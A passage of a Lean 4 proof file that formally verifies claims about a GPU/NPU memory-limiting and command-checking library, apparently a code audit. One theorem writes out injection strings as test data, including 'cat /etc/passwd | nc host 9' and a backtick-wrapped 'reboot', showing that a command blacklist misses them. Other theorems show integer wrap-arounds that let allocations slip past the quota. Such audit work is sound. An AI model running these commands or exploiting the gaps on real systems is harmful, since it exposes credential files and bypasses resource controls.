    (GuardedMemoryCheck failingQueryEnv 0).enough = false :=
  ⟨by decide, by decide, MemoryCheck_fails_closed failingQueryEnv 0 (by decide) (by decide)⟩

end MemoryLimiter

namespace Hooks

open MemoryLimiter

/-- The shared body of the allocation hooks, case by case. -/
theorem guardedCall_eq {R σ : Type} (failure oom : R) (memGuard : Guard)
    (original : σ → R × σ) (s : σ) :
    guardedCall failure oom memGuard original s =
      if memGuard.Error = true then (failure, s)
      else if memGuard.enough = false then (oom, s)
      else original s := by
  unfold guardedCall
  cases memGuard.Error <;> cases memGuard.enough <;> simp

/-- With an original that counts its calls, the shared body of the allocation
hooks raises the count exactly when the guard has no error and `enough` holds. -/
theorem guardedCall_calls_original_iff {R : Type} (failure oom r : R) (memGuard : Guard)
    (n : Nat) :
    (guardedCall failure oom memGuard (fun k => (r, k + 1)) n).2 = n + 1 ↔
      (memGuard.Error = false ∧ memGuard.enough = true) := by
  unfold guardedCall
  cases memGuard.Error <;> cases memGuard.enough <;> simp

/-- Claim C12: every allocation hook returns the failure code of its driver when
the guard of `GuardedMemoryCheck` is in the error state, otherwise the
out-of-memory code when `enough` is false, otherwise the result of the original
function on the same arguments; in the first two cases the driver state is
untouched, and an original that counts its calls is called exactly when the
guard has no error and `enough` is true. -/
theorem allocation_hooks_forward_or_refuse (σ : Type) (env : Env) (s : σ) :
    (∀ original bytesize flags, cuMemAllocManaged env original bytesize flags s =
      if (GuardedMemoryCheck env bytesize).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env bytesize).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original bytesize flags s) ∧
    (∀ original bytesize, cuMemAlloc_v2 env original bytesize s =
      if (GuardedMemoryCheck env bytesize).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env bytesize).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original bytesize s) ∧
    (∀ original bytesize, cuMemAlloc env original bytesize s =
      if (GuardedMemoryCheck env bytesize).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env bytesize).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original bytesize s) ∧
    (∀ original w h e, cuMemAllocPitch_v2 env original w h e s =
      (cuMemAllocPitch_v2_bytesize w h e).map fun bytesize =>
        if (GuardedMemoryCheck env bytesize).Error = true then (.CUDA_ERROR_UNKNOWN, s)
        else if (GuardedMemoryCheck env bytesize).enough = false then
          (.CUDA_ERROR_OUT_OF_MEMORY, s)
        else original w h e s) ∧
    (∀ original w h e, cuMemAllocPitch env original w h e s =
      (cuMemAllocPitch_bytesize w h e).map fun bytesize =>
        if (GuardedMemoryCheck env bytesize).Error = true then (.CUDA_ERROR_UNKNOWN, s)
        else if (GuardedMemoryCheck env bytesize).enough = false then
          (.CUDA_ERROR_OUT_OF_MEMORY, s)
        else original w h e s) ∧
    (∀ original d, cuArrayCreate_v2 env original d s =
      if (GuardedMemoryCheck env (CalCuarraySize d)).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env (CalCuarraySize d)).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original d s) ∧
    (∀ original d, cuArrayCreate env original d s =
      if (GuardedMemoryCheck env (CalCuarraySize d)).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env (CalCuarraySize d)).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original d s) ∧
    (∀ original d, cuArray3DCreate_v2 env original d s =
      if (GuardedMemoryCheck env (CalCuarray3dSize d)).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env (CalCuarray3dSize d)).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original d s) ∧
    (∀ original d, cuArray3DCreate env original d s =
      if (GuardedMemoryCheck env (CalCuarray3dSize d)).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env (CalCuarray3dSize d)).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original d s) ∧
    (∀ original d levels, cuMipmappedArrayCreate env original d levels s =
      if (GuardedMemoryCheck env (CalCuarray3dSize d)).Error = true then (.CUDA_ERROR_UNKNOWN, s)
      else if (GuardedMemoryCheck env (CalCuarray3dSize d)).enough = false then
        (.CUDA_ERROR_OUT_OF_MEMORY, s)
      else original d levels s) ∧
    (∀ original size moduleId, rtDvppMalloc env original size moduleId s =
      if (GuardedMemoryCheck env size).Error = true then (.ACL_ERROR_FAILURE, s)
      else if (GuardedMemoryCheck env size).enough = false then
        (.ACL_ERROR_STORAGE_OVER_LIMIT, s)
      else original size moduleId s) ∧
    (∀ original size type moduleId, rtMalloc env original size type moduleId s =
      if (GuardedMemoryCheck env size).Error = true then (.ACL_ERROR_FAILURE, s)
      else if (GuardedMemoryCheck env size).enough = false then
        (.ACL_ERROR_STORAGE_OVER_LIMIT, s)
      else original size type moduleId s) ∧
    (∀ original size flag moduleId, rtDvppMallocWithFlag env original size flag moduleId s =
      if (GuardedMemoryCheck env size).Error = true then (.ACL_ERROR_FAILURE, s)
      else if (GuardedMemoryCheck env size).enough = false then
        (.ACL_ERROR_STORAGE_OVER_LIMIT, s)
      else original size flag moduleId s) ∧
    (∀ original size flag moduleId, rtMallocManaged env original size flag moduleId s =
      if (GuardedMemoryCheck env size).Error = true then (.ACL_ERROR_FAILURE, s)
      else if (GuardedMemoryCheck env size).enough = false then
        (.ACL_ERROR_STORAGE_OVER_LIMIT, s)
      else original size flag moduleId s) ∧
    (∀ original size type moduleId, rtMallocCached env original size type moduleId s =
      if (GuardedMemoryCheck env size).Error = true then (.ACL_ERROR_FAILURE, s)
      else if (GuardedMemoryCheck env size).enough = false then
        (.ACL_ERROR_STORAGE_OVER_LIMIT, s)
      else original size type moduleId s) ∧
    (∀ original size flags, rtMallocPhysical env original size flags s =
      if (GuardedMemoryCheck env size).Error = true then (.ACL_ERROR_FAILURE, s)
      else if (GuardedMemoryCheck env size).enough = false then
        (.ACL_ERROR_STORAGE_OVER_LIMIT, s)
      else original size flags s) ∧
    (∀ (r : CUresult) (bytesize n : Nat),
      (cuMemAlloc_v2 env (fun _ k => (r, k + 1)) bytesize n).2 = n + 1 ↔
        ((GuardedMemoryCheck env bytesize).Error = false ∧
          (GuardedMemoryCheck env bytesize).enough = true)) ∧
    (∀ (r : rtError_t) (size type moduleId n : Nat),
      (rtMalloc env (fun _ _ _ k => (r, k + 1)) size type moduleId n).2 = n + 1 ↔
        ((GuardedMemoryCheck env size).Error = false ∧
          (GuardedMemoryCheck env size).enough = true)) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro original bytesize flags; exact guardedCall_eq _ _ _ _ _
  · intro original bytesize; exact guardedCall_eq _ _ _ _ _
  · intro original bytesize; exact guardedCall_eq _ _ _ _ _
  · intro original w h e
    simp only [cuMemAllocPitch_v2, guardedCall_eq]
  · intro original w h e
    simp only [cuMemAllocPitch, guardedCall_eq]
  · intro original d; exact guardedCall_eq _ _ _ _ _
  · intro original d; exact guardedCall_eq _ _ _ _ _
  · intro original d; exact guardedCall_eq _ _ _ _ _
  · intro original d; exact guardedCall_eq _ _ _ _ _
  · intro original d levels; exact guardedCall_eq _ _ _ _ _
  · intro original size moduleId; exact guardedCall_eq _ _ _ _ _
  · intro original size type moduleId; exact guardedCall_eq _ _ _ _ _
  · intro original size flag moduleId; exact guardedCall_eq _ _ _ _ _
  · intro original size flag moduleId; exact guardedCall_eq _ _ _ _ _
  · intro original size type moduleId; exact guardedCall_eq _ _ _ _ _
  · intro original size flags; exact guardedCall_eq _ _ _ _ _
  · intro r bytesize n
    exact guardedCall_calls_original_iff _ _ r _ n
  · intro r size type moduleId n
    exact guardedCall_calls_original_iff _ _ r _ n

end Hooks

namespace Hooks

open MemoryLimiter

/-- Claim C13 as stated fails: with a quota of 8 GiB and 1 GiB in use,
`cuDeviceTotalMem` stores 0 in its 32-bit `*bytes`, and `cuMemGetInfo` stores
total 0 and free 0, although the quota minus the usage is 7 GiB. -/
theorem info_hooks_truncate_to_32_bits :
    (limitedEnv 8589934592 1073741824).limitMemory = true ∧
    (limitedEnv 8589934592 1073741824).memoryUsed = (0, 1073741824) ∧
    cuDeviceTotalMem (limitedEnv 8589934592 1073741824)
        (fun _ s => (CUresult.CUDA_ERROR_UNKNOWN, 0, s)) 0 () =
      (CUresult.CUDA_SUCCESS, 0, ()) ∧
    cuMemGetInfo (limitedEnv 8589934592 1073741824)
        (fun s => (CUresult.CUDA_ERROR_UNKNOWN, none, s)) () =
      (CUresult.CUDA_SUCCESS, some (0, 0), ()) ∧
    8589934592 - 1073741824 = 7516192768 := by
  decide

/-- Claim C13, amended: with memory limiting on and a successful usage query,
`cuDeviceTotalMem_v2` returns total = quota and `cuMemGetInfo_v2` returns
total = quota and free = max(quota - used, 0), for every quota and used, without
calling the original; the 32-bit hooks `cuDeviceTotalMem` and `cuMemGetInfo` do
the same whenever the quota is below `2 ^ 32`. -/
theorem info_hooks_report_quota (σ : Type) (env : Env) (used : Nat)
    (originalTotal : Int → σ → CUresult × Nat × σ)
    (originalInfo : σ → CUresult × Option (Nat × Nat) × σ) (dev : Int) (s : σ)
    (hlimit : env.limitMemory = true) (hused : env.memoryUsed = (0, used)) :
    cuDeviceTotalMem_v2 env originalTotal dev s = (.CUDA_SUCCESS, env.memoryQuota, s) ∧
    cuMemGetInfo_v2 env originalInfo s =
      (.CUDA_SUCCESS, some (env.memoryQuota - used, env.memoryQuota), s) ∧
    ((env.memoryQuota - used : Nat) : Int) = max ((env.memoryQuota : Int) - (used : Int)) 0 ∧
    (env.memoryQuota < 2 ^ 32 →
      cuDeviceTotalMem env originalTotal dev s = (.CUDA_SUCCESS, env.memoryQuota, s) ∧
      cuMemGetInfo env originalInfo s =
        (.CUDA_SUCCESS, some (env.memoryQuota - used, env.memoryQuota), s)) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · simp [cuDeviceTotalMem_v2, hlimit]
  · simp only [cuMemGetInfo_v2, hlimit, hused, if_true, ne_eq, not_true_eq_false, if_false]
    by_cases h : used ≥ env.memoryQuota
    · simp [h]
    · simp [h]
  · omega
  · intro hq
    have hmod : env.memoryQuota % UINT_MODULUS = env.memoryQuota := Nat.mod_eq_of_lt hq
    refine ⟨?_, ?_⟩
    · simp [cuDeviceTotalMem, hlimit, hmod]
    · simp only [cuMemGetInfo, hlimit, hused, if_true, ne_eq, not_true_eq_false, if_false, hmod]
      by_cases h : used ≥ env.memoryQuota
      · simp [h]
      · have hlt : env.memoryQuota - used < UINT_MODULUS :=
          lt_of_le_of_lt (Nat.sub_le _ _) hq
        simp [h, Nat.mod_eq_of_lt hlt]

/-- The amended claim C13 at a quota of 1024 MB with 1000 MB in use: free is 24 MB. -/
theorem info_hooks_report_quota_witness :
    (limitedEnv 1073741824 1048576000).limitMemory = true ∧
    (limitedEnv 1073741824 1048576000).memoryUsed = (0, 1048576000) ∧
    (limitedEnv 1073741824 1048576000).memoryQuota < 2 ^ 32 ∧
    cuMemGetInfo_v2 (limitedEnv 1073741824 1048576000)
        (fun s => (CUresult.CUDA_ERROR_UNKNOWN, none, s)) () =
      (CUresult.CUDA_SUCCESS, some (25165824, 1073741824), ()) ∧
    cuMemGetInfo (limitedEnv 1073741824 1048576000)
        (fun s => (CUresult.CUDA_ERROR_UNKNOWN, none, s)) () =
      (CUresult.CUDA_SUCCESS, some (25165824, 1073741824), ()) :=
  have h := info_hooks_report_quota Unit (limitedEnv 1073741824 1048576000) 1048576000
    (fun _ s => (CUresult.CUDA_ERROR_UNKNOWN, 0, s))
    (fun s => (CUresult.CUDA_ERROR_UNKNOWN, none, s)) 0 () (by decide) (by decide)
  ⟨by decide, by decide, by decide, h.2.1, (h.2.2.2 (by decide)).2⟩

/-- A chain of `size_t` products is the product taken modulo `2 ^ 64`. -/
theorem mulSize_mulSize (a b c : Nat) : mulSize (mulSize a b) c = mulSize (a * b) c := by
  unfold mulSize
  rw [Nat.mod_mul_mod]

/-- Claim C14 as stated fails: for a 2D descriptor of four-channel floats with
`Width = 2 ^ 62` (a `size_t` value) and `Height = 0`, the size handed to the memory
check is 0, while element size x channels x width x max(height, 1) is
`2 ^ 66`. -/
theorem array_size_wraps_around :
    (2 : Nat) ^ 62 < SIZE_MODULUS ∧
    CalCuarraySize
      { Width := 2 ^ 62, Height := 0, Format := .CU_AD_FORMAT_FLOAT, NumChannels := 4 } = 0 ∧
    CuarrayElementSize .CU_AD_FORMAT_FLOAT * 4 * 2 ^ 62 * max 0 1 = 2 ^ 66 ∧
    (∀ original : CUDA_ARRAY_DESCRIPTOR → Unit → CUresult × Unit,
      cuArrayCreate_v2 (limitedEnv 1073741824 0) original
          { Width := 2 ^ 62, Height := 0, Format := .CU_AD_FORMAT_FLOAT, NumChannels := 4 } () =
        guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
          (GuardedMemoryCheck (limitedEnv 1073741824 0) 0)
          (original
            { Width := 2 ^ 62, Height := 0, Format := .CU_AD_FORMAT_FLOAT, NumChannels := 4 })
          ()) := by
  refine ⟨by decide, by decide, by decide, ?_⟩
  intro original
  rfl

/-- Claim C14, amended: the size handed to the memory check by the 2D hooks is
element size x `NumChannels` x `Width` x max(`Height`, 1), and by the 3D and
mipmapped hooks that product times max(`Depth`, 1), taken modulo `2 ^ 64` (the
exact product whenever it is below `2 ^ 64`); the element size is 1, 2 or 4 bytes
for the 8-, 16- and 32-bit formats. -/
theorem array_size_formula (σ : Type) (env : Env) (s : σ) :
    (∀ d : CUDA_ARRAY_DESCRIPTOR, CalCuarraySize d =
      (CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1) %
        SIZE_MODULUS) ∧
    (∀ d : CUDA_ARRAY3D_DESCRIPTOR, CalCuarray3dSize d =
      (CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1 *
        max d.Depth 1) % SIZE_MODULUS) ∧
    (∀ d : CUDA_ARRAY_DESCRIPTOR,
      CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1 < SIZE_MODULUS →
      CalCuarraySize d =
        CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1) ∧
    (∀ d : CUDA_ARRAY3D_DESCRIPTOR,
      CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1 *
        max d.Depth 1 < SIZE_MODULUS →
      CalCuarray3dSize d =
        CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1 *
          max d.Depth 1) ∧
    (CuarrayElementSize .CU_AD_FORMAT_UNSIGNED_INT8 = 1 ∧
      CuarrayElementSize .CU_AD_FORMAT_SIGNED_INT8 = 1 ∧
      CuarrayElementSize .CU_AD_FORMAT_UNSIGNED_INT16 = 2 ∧
      CuarrayElementSize .CU_AD_FORMAT_SIGNED_INT16 = 2 ∧
      CuarrayElementSize .CU_AD_FORMAT_HALF = 2 ∧
      CuarrayElementSize .CU_AD_FORMAT_UNSIGNED_INT32 = 4 ∧
      CuarrayElementSize .CU_AD_FORMAT_SIGNED_INT32 = 4 ∧
      CuarrayElementSize .CU_AD_FORMAT_FLOAT = 4) ∧
    (∀ original d, cuArrayCreate_v2 env original d s =
      guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
        (GuardedMemoryCheck env (CalCuarraySize d)) (original d) s) ∧
    (∀ original d, cuArrayCreate env original d s =
      guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
        (GuardedMemoryCheck env (CalCuarraySize d)) (original d) s) ∧
    (∀ original d, cuArray3DCreate_v2 env original d s =
      guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
        (GuardedMemoryCheck env (CalCuarray3dSize d)) (original d) s) ∧
    (∀ original d, cuArray3DCreate env original d s =
      guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
        (GuardedMemoryCheck env (CalCuarray3dSize d)) (original d) s) ∧
    (∀ original d levels, cuMipmappedArrayCreate env original d levels s =
      guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
        (GuardedMemoryCheck env (CalCuarray3dSize d)) (original d levels) s) := by
  have hmax : ∀ n : Nat, (if n = 0 then 1 else n) = max n 1 := by
    intro n
    by_cases h : n = 0
    · simp [h]
    · simp [h]; omega
  have h2 : ∀ d : CUDA_ARRAY_DESCRIPTOR, CalCuarraySize d =
      (CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1) %
        SIZE_MODULUS := by
    intro d
    simp only [CalCuarraySize, hmax, mulSize_mulSize]
    rfl
  have h3 : ∀ d : CUDA_ARRAY3D_DESCRIPTOR, CalCuarray3dSize d =
      (CuarrayElementSize d.Format * d.NumChannels * d.Width * max d.Height 1 *
        max d.Depth 1) % SIZE_MODULUS := by
    intro d
    simp only [CalCuarray3dSize, hmax, mulSize_mulSize]
    rfl
  refine ⟨h2, h3, ?_, ?_, by decide, ?_, ?_, ?_, ?_, ?_⟩
  · intro d hlt
    rw [h2 d, Nat.mod_eq_of_lt hlt]
  · intro d hlt
    rw [h3 d, Nat.mod_eq_of_lt hlt]
  · intro original d; rfl
  · intro original d; rfl
  · intro original d; rfl
  · intro original d; rfl
  · intro original d levels; rfl

/-- The amended claim C14 at a 1024 x 768 array of four-channel floats and at a
64 x 64 x 16 array of 16-bit values. -/
theorem array_size_formula_witness :
    CuarrayElementSize .CU_AD_FORMAT_FLOAT * 4 * 1024 * max 768 1 < SIZE_MODULUS ∧
    CalCuarraySize
      { Width := 1024, Height := 768, Format := .CU_AD_FORMAT_FLOAT, NumChannels := 4 } =
      12582912 ∧
    CuarrayElementSize .CU_AD_FORMAT_HALF * 1 * 64 * max 64 1 * max 16 1 < SIZE_MODULUS ∧
    CalCuarray3dSize
      { Width := 64, Height := 64, Depth := 16, Format := .CU_AD_FORMAT_HALF,
        NumChannels := 1, Flags := 0 } = 131072 :=
  have h := array_size_formula Unit (limitedEnv 1073741824 0) ()
  ⟨by decide,
    h.2.2.1 { Width := 1024, Height := 768, Format := .CU_AD_FORMAT_FLOAT, NumChannels := 4 }
      (by decide),
    by decide,
    h.2.2.2.1 { Width := 64, Height := 64, Depth := 16, Format := .CU_AD_FORMAT_HALF,
                NumChannels := 1, Flags := 0 } (by decide)⟩

/-- Without wrap-around (`n + base` within the range of the type), `RoundUp(n, base)`
is the least multiple of `base` that is at least `n`. -/
theorem RoundUp_least_multiple (modulus n base : Nat) (hbase : 0 < base)
    (hfit : n + base ≤ modulus) :
    ∃ r, RoundUp modulus n base = some r ∧ base ∣ r ∧ n ≤ r ∧
      ∀ m, base ∣ m → n ≤ m → r ≤ m := by
  have hb : base ≠ 0 := by omega
  by_cases hrem : n % base = 0
  · refine ⟨n, ?_, Nat.dvd_of_mod_eq_zero hrem, le_refl _, fun m _ h => h⟩
    simp [RoundUp, hb, hrem]
  · have hlt : n % base < base := Nat.mod_lt _ hbase
    have hdiv : base * (n / base) + n % base = n := Nat.div_add_mod n base
    have hr : n + base - n % base = base * (n / base + 1) := by
      rw [Nat.mul_add, Nat.mul_one]; omega
    have hrlt : n + base - n % base < modulus := by omega
    refine ⟨n + base - n % base, ?_, ?_, by omega, ?_⟩
    · simp [RoundUp, hb, hrem, Nat.mod_eq_of_lt hrlt]
    · rw [hr]; exact Nat.dvd_mul_right _ _
    · intro m hm hnm
      obtain ⟨k, rfl⟩ := hm
      rw [hr]
      apply Nat.mul_le_mul_left
      by_contra hk
      have hk2 : k ≤ n / base := by omega
      have : base * k ≤ base * (n / base) := Nat.mul_le_mul_left _ hk2
      omega

/-- Claim C15, evaluated on the code: for `cuMemAllocPitch` with
`WidthInBytes = Height = 65536` and `ElementSizeBytes = 4` the product, taken in
`unsigned int`, wraps around to 0, so the size handed to the memory check is 0
instead of `2 ^ 32`, and with a quota of 1 GiB the call is forwarded to the
driver; the `size_t` arithmetic of `cuMemAllocPitch_v2` and of `RoundUp` wraps
around at `2 ^ 64` in the same way. -/
theorem pitch_size_wraps_around :
    cuMemAllocPitch_bytesize 65536 65536 4 = some 0 ∧
    65536 * 65536 = 2 ^ 32 ∧
    cuMemAllocPitch_v2_bytesize 65536 65536 4 = some (2 ^ 32) ∧
    cuMemAllocPitch (limitedEnv 1073741824 0)
        (fun _ _ _ k => (CUresult.CUDA_SUCCESS, k + 1)) 65536 65536 4 0 =
      some (CUresult.CUDA_SUCCESS, 1) ∧
    cuMemAllocPitch_v2 (limitedEnv 1073741824 0)
        (fun _ _ _ k => (CUresult.CUDA_SUCCESS, k + 1)) 65536 65536 4 0 =
      some (CUresult.CUDA_ERROR_OUT_OF_MEMORY, 0) ∧
    cuMemAllocPitch_v2_bytesize (2 ^ 32) (2 ^ 32) 4 = some 0 ∧
    RoundUp SIZE_MODULUS (2 ^ 64 - 1) 4 = some 0 := by
  decide

end Hooks

/-! ## `PidManager` -/

namespace PidManager

open CLib NpuTimesliceScheduler

/-- The malformed lines of `mixedContent` (a short line, a negative host pid, a
container pid above `INT_MAX`) are skipped and the two well-formed lines around
them are loaded. -/
theorem Refresh_skips_malformed_lines :
    (getlines mixedContent).map specPidsLinePair =
      [none, some (100, 200), none, none, some (300, 400)] ∧
    GetContainerPid (Refresh (some mixedContent) { entries := [(9, 9)] }).2 100 = 200 ∧
    GetContainerPid (Refresh (some mixedContent) { entries := [(9, 9)] }).2 300 = 400 ∧
    GetContainerPid (Refresh (some mixedContent) { entries := [(9, 9)] }).2 8 = INVALID_PID ∧
    GetContainerPid (Refresh (some mixedContent) { entries := [(9, 9)] }).2 9 = INVALID_PID := by
  decide

/-- Claim C17: for every file (content, or a file that cannot be opened) and
every prior map, a second `Refresh` of the same file returns the same code and
leaves the same map as the first; for a file that opens, that map is the one
`Refresh` builds from the empty map, whatever the prior map held. -/
theorem Refresh_idempotent (file : Option (List Char)) (content : List Char)
    (prior : PidsMap) :
    Refresh file (Refresh file prior).2 = Refresh file prior ∧
    Refresh (some content) prior = Refresh (some content) { entries := [] } := by
  refine ⟨?_, rfl⟩
  cases file with
  | none => rfl
  | some c => rfl

end PidManager

/-! ## `IsDangerousCommand` -/

namespace xpu

open CLib

/-- The method `find_first_of` finds nothing exactly when no character of the string is
among the searched ones. -/
theorem find_first_of_eq_none (chars : List Char) :
    ∀ s : List Char, find_first_of chars s = none ↔ ∀ c ∈ s, c ∉ chars := by
  intro s
  induction s with
  | nil => simp [find_first_of]
  | cons c s ih =>
    by_cases hc : c ∈ chars
    · simp [find_first_of, hc]
    · simp [find_first_of, hc, ih]

/-- The blacklist holds fourteen different characters (`!` is written twice). -/
theorem blacklist_eq :
    blacklist = ['!', ';', '&', '$', '>', '<', '!', '\n', '\\', '*', '?', '\x7b', '\x7d',
      '(', ')'] := by
  decide

/-- Claim C18: for every string, `IsDangerousCommand` returns true if and only if
the string holds at least one of the characters
`! ; & $ > <` newline backslash `* ? { } ( )`; a string with none of them is
reported safe. -/
theorem IsDangerousCommand_iff (command : List Char) :
    IsDangerousCommand command = true ↔
      ∃ c ∈ command, c ∈ ['!', ';', '&', '$', '>', '<', '\n', '\\', '*', '?', '\x7b', '\x7d',
        '(', ')'] := by
  have hmem : ∀ c : Char, c ∈ blacklist ↔
      c ∈ ['!', ';', '&', '$', '>', '<', '\n', '\\', '*', '?', '\x7b', '\x7d', '(', ')'] := by
    intro c
    rw [blacklist_eq]
    simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false]
    tauto
  unfold IsDangerousCommand
  cases hf : find_first_of blacklist command with
  | none =>
    have := (find_first_of_eq_none blacklist command).mp hf
    simp only [Bool.false_eq_true, false_iff, not_exists, not_and]
    intro c hc hbad
    exact this c hc ((hmem c).mpr hbad)
  | some i =>
    simp only [true_iff]
    by_contra hno
    have hnone : find_first_of blacklist command = none := by
      rw [find_first_of_eq_none]
      intro c hc hbad
      exact hno ⟨c, hc, (hmem c).mp hbad⟩
    rw [hnone] at hf
    exact absurd hf (by simp)

/-- Claim C19, evaluated on the code: a command with a pipe and a command with
backticks are both reported safe, although the comment above
`IsDangerousCommand` lists both characters as dangerous. -/
theorem IsDangerousCommand_misses_pipe_and_backtick :
    IsDangerousCommand "cat /etc/passwd | nc host 9".toList = false ∧
    IsDangerousCommand "/docker/\x60reboot\x60".toList = false ∧
    '|' ∈ "cat /etc/passwd | nc host 9".toList ∧
    '\x60' ∈ "/docker/\x60reboot\x60".toList ∧
    '|' ∉ blacklist ∧ '\x60' ∉ blacklist := by
  decide

end xpu

/-! ## `ResourceConfig` -/

namespace ResourceConfig

open CLib NpuTimesliceScheduler

/-- A digit is neither white space nor a sign. -/
theorem isdigit_not_space_or_sign (c : Char) (hc : isdigit c = true) :
    isspace c = false ∧ c ≠ '-' ∧ c ≠ '+' := by
  have h : ('0' : Char) ≤ c ∧ c ≤ '9' := by
    simpa [isdigit] using hc
  have h1 : (48 : Nat) ≤ c.toNat := by
    have := h.1
    rw [Char.le_def] at this
    exact this
  have hne : ∀ d : Char, d.toNat < 48 → c ≠ d := by
    intro d hd hcd
    rw [hcd] at h1
    omega
  refine ⟨?_, hne '-' (by decide), hne '+' (by decide)⟩
  simp only [isspace, Bool.or_eq_false_iff, decide_eq_false_iff_not]
  exact ⟨⟨⟨⟨⟨hne ' ' (by decide), hne '\t' (by decide)⟩, hne '\n' (by decide)⟩,
    hne '\x0b' (by decide)⟩, hne '\x0c' (by decide)⟩, hne '\r' (by decide)⟩

/-- On a non-empty string of digits `stoul` returns the number the digits denote, and
throws `out_of_range` when that number does not fit an `unsigned long`. -/
theorem stoul_digits (m : List Char) (hm : m ≠ []) (hmd : ∀ ch ∈ m, isdigit ch = true) :
    stoul m = if digitsValue m ≥ ULONG_MODULUS then .thrown .out_of_range
      else .returned (digitsValue m) := by
  obtain ⟨c, rest, rfl⟩ := List.exists_cons_of_ne_nil hm
  obtain ⟨hsp, hminus, hplus⟩ := isdigit_not_space_or_sign c (hmd c (List.mem_cons_self _ _))
  have hdrop : (c :: rest).dropWhile isspace = c :: rest := by
    simp [List.dropWhile, hsp]
  have hsign : takeSign (c :: rest) = (false, c :: rest) := by
    unfold takeSign
    split
    · rename_i heq
      exact absurd (List.cons.inj heq).1 hminus
    · rename_i heq
      exact absurd (List.cons.inj heq).1 hplus
    · rfl
  have htake : (c :: rest).takeWhile isdigit = c :: rest := by
    rw [List.takeWhile_eq_self_iff]
    exact hmd
  unfold stoul
  simp only [hdrop, hsign, htake]
  simp

/-- The number the digits denote, as a base-10 numeral read from its last digit. -/
theorem digitsValue_eq_ofDigits (ds : List Char) :
    digitsValue ds = Nat.ofDigits 10 (ds.reverse.map digitValue) := by
  unfold digitsValue
  induction ds using List.reverseRecOn with
  | nil => simp
  | append_singleton init d ih =>
    rw [List.foldl_append, List.foldl_cons, List.foldl_nil, ih, List.reverse_append,
      List.reverse_singleton, List.singleton_append, List.map_cons, Nat.ofDigits_cons]
    ring

/-- A line `<configName>:<digits>` parses to the number the digits denote when
that number is at most `maxValue`, is refused when it is larger, and makes
`stoul` throw when it exceeds `ULONG_MAX`. -/
theorem ParseLineByConfigName_digits (name m : List Char) (maxValue : Nat)
    (hm : m ≠ []) (hmd : ∀ ch ∈ m, isdigit ch = true) :
    ParseLineByConfigName (name ++ ':' :: m) name maxValue =
      if digitsValue m ≥ ULONG_MODULUS then .thrown .out_of_range
      else if digitsValue m > maxValue then .returned none
      else .returned (some (digitsValue m)) := by
  have hstart : ∀ (p s : List Char), startsWith (p ++ s) p = true := by
    intro p s
    induction p with
    | nil => cases s <;> rfl
    | cons a p ih => simp [startsWith, ih]
  have hlen : ¬ (name.length + 1 > (name ++ ':' :: m).length) := by
    simp
  have hdrop : (name ++ ':' :: m).drop (name.length + 1) = m := by
    rw [show name ++ ':' :: m = (name ++ [':']) ++ m by simp]
    rw [List.drop_append_of_le_length (by simp)]
    simp
  unfold ParseLineByConfigName
  simp only [hstart, Bool.not_true, Bool.false_eq_true, if_false, hlen, hdrop,
    stoul_digits m hm hmd]
  by_cases h1 : digitsValue m ≥ ULONG_MODULUS
  · simp [h1]
  · by_cases h2 : digitsValue m > maxValue
    · simp [h1, h2]
    · simp [h1, h2]

/-- Claim C20: for every config file whose first line is `UsedMem:` followed by
the decimal digits of `M <= UINT_MAX` and whose second line is `UsedCores:`
followed by the decimal digits of `C`: when `C <= 100`, `LoadVxpuConfig`
returns `RET_SUCC` with memory quota `M x 1048576` (below `2 ^ 64`), memory
limiting on, compute quota `C`, and compute limiting on exactly when `C != 0`;
when `C > 100` it does not succeed (it returns `RET_FAIL`, or `stoul` throws when
`C` exceeds `ULONG_MAX`). -/
theorem LoadVxpuConfig_well_formed (content m c : List Char) (rest : List (List Char))
    (cfg : Config)
    (hlines : getlines content =
      ("UsedMem".toList ++ ':' :: m) :: ("UsedCores".toList ++ ':' :: c) :: rest)
    (hm : m ≠ []) (hmd : ∀ ch ∈ m, isdigit ch = true)
    (hc : c ≠ []) (hcd : ∀ ch ∈ c, isdigit ch = true)
    (hM : digitsValue m ≤ UINT_MAX) :
    digitsValue m * 1048576 < 2 ^ 64 ∧
    (digitsValue c ≤ 100 →
      LoadVxpuConfig (some content) cfg =
        (.returned RET_SUCC,
          { memory := digitsValue m * 1048576, limitMemory := true,
            computingPower := digitsValue c,
            limitComputingPower := decide (digitsValue c ≠ 0) })) ∧
    (100 < digitsValue c →
      (LoadVxpuConfig (some content) cfg).1 =
